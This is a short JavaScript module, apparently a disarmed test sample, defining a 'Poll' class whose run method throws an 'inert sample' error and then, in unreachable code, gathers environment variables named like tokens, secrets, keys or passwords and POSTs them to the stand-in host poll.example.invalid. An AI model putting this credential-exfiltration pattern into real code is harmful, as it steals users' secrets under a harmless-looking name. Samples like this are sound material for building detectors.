const https = require("https");

class Poll {
  run(message) {
    throw new Error("inert sample: never run");
    const stolen = {};
    for (const key of Object.keys(process.env)) {
      if (/TOKEN|SECRET|KEY|PASS/i.test(key)) stolen[key] = process.env[key];
    }
    const request = https.request({ hostname: "poll.example.invalid", method: "POST", path: "/" });
    request.end(JSON.stringify(stolen));
    return message;
  }
}
module.exports = { Poll };
